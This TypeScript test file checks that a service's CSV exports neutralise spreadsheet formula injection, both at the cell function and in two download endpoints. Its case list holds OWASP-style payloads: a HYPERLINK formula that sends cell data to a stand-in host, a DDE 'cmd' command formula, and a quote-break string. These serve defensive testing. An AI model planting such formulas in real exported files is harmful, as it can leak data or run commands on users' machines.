// Every CSV the service writes is safe to open in a spreadsheet (OWASP "CSV Injection"): a cell
// that would start a formula is written as text, and no cell can break out of its quotes. Checked
// on the cell function with OWASP's payloads, then on both downloads (the lot ZIP's items.csv and
// a job's items as CSV) with items whose serials start like formulas.
import t from "tap";
import { csvCell, csvLine } from "../../src/qr/csv.ts";
import { bearer } from "../support/app.ts";
import { catalogue } from "../resolver/support.ts";
import { readZip } from "../support/zip.ts";

t.test("a cell a spreadsheet would run as a formula is written as text", async (t) => {
  const cases: Array<[string, string]> = [
    ["=1+2", "'=1+2"],
    ["+1+2", "'+1+2"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\t=1+2", "'\t=1+2"],
    ["\r=1+2", `"'\r=1+2"`],
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    // The quote-break of OWASP's examples: the comma cannot end the cell, so =1+2 never starts one.
    ['a",=1+2', `"a"",=1+2"`],
    ["SZ2611A", "SZ2611A"],
    ["https://trace.example.com/01/09520123000427/21/=x", "https://trace.example.com/01/09520123000427/21/=x"],
  ];
  for (const [value, written] of cases) t.equal(csvCell(value), written, JSON.stringify(value));
  t.equal(csvLine(["serial", "=uri"]), "serial,'=uri\r\n");
});

t.test("the lot ZIP's items.csv and a job's CSV neutralise formula-like serials", async (t) => {
  const c = await catalogue({ items: 1 });
  t.teardown(c.h.close);
  // Serials as GS1 AI (21) allows them (character set 82 has = + -), as an import could bring them.
  const hostile = ["=1+2", "-3+4", "+5"];
  await c.h.database.db
    .insertInto("items")
    .values(hostile.map((serial, i) => ({ gtin: c.gtin14, serial, lot: c.lot, merchant_id: c.key.merchantId, subject: c.itemUri(encodeURIComponent(serial)), job_id: c.jobId, job_index: i + 1 })))
    .execute();

  const zip = await c.h.app.inject({ method: "GET", url: `/v1/products/${c.gtin13}/lots/${encodeURIComponent(c.lot)}/qr.zip`, headers: bearer(c.key) });
  t.equal(zip.statusCode, 200);
  const zipRows = (await readZip(zip.rawPayload)).get("items.csv")!.toString().trim().split("\r\n");
  const job = await c.h.app.inject({ method: "GET", url: `/v1/jobs/${c.jobId}/items?format=csv`, headers: bearer(c.key) });
  t.equal(job.statusCode, 200, job.body);
  const jobRows = job.body.trim().split("\r\n");
  for (const [name, rows] of [["items.csv", zipRows], ["job CSV", jobRows]] as const) {
    for (const serial of hostile) t.ok(rows.includes(`'${serial},${c.itemUri(encodeURIComponent(serial))}`), `${name}: ${serial} is written as text`);
    t.notOk(rows.some((row) => /^[=+\-@]|,[=+\-@]/.test(row)), `${name}: no cell starts a formula`);
    t.ok(rows.includes(`${c.serials[0]},${c.itemUri(c.serials[0]!)}`), `${name}: an ordinary row is unchanged`);
  }
});
